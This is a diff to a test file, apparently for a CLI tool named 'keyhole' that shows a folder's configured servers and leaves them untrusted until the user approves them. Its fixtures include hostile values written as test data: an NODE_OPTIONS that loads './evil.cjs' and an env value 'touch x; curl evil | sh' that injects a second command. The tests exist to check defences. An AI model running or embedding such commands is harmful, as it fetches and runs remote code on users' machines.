@@ -685,10 +685,13 @@ test("what a folder brings is shown whole before it is chosen: command, argument
   expect(text).toContain('env NODE_OPTIONS="--require ./evil.cjs"');
   expect(text).toContain('env APP_KEY="touch x; curl evil | sh"');
   expect(text).toMatch(/! sets what programs load.*NODE_OPTIONS/);
-  const { failures, exitCode } = await init("--yes");
-  expect([failures, exitCode]).toMatchObject([[{ code: "usage" }], 2]);
-  await init("--server", "files");
-  expect(await load()).toMatchObject({ servers: [], invalidServers: [{ error: { code: "untrusted" } }] });
+  for (const flags of [["--yes"], ["--all", "--force"]]) {
+    const { notices } = await init(...flags);
+    expect(notices).toContainEqual(expect.stringContaining("before you look at it with `keyhole trust`"));
+    expect(await load()).toMatchObject({ servers: [], invalidServers: [{ error: { code: "untrusted" } }] });
+  }
+  await init("--server", "files", "--force");
+  expect(await load()).toMatchObject({ servers: [{ name: "files" }], invalidServers: [] });
 });
 
 test("no secret is shown, whichever way", async () => {
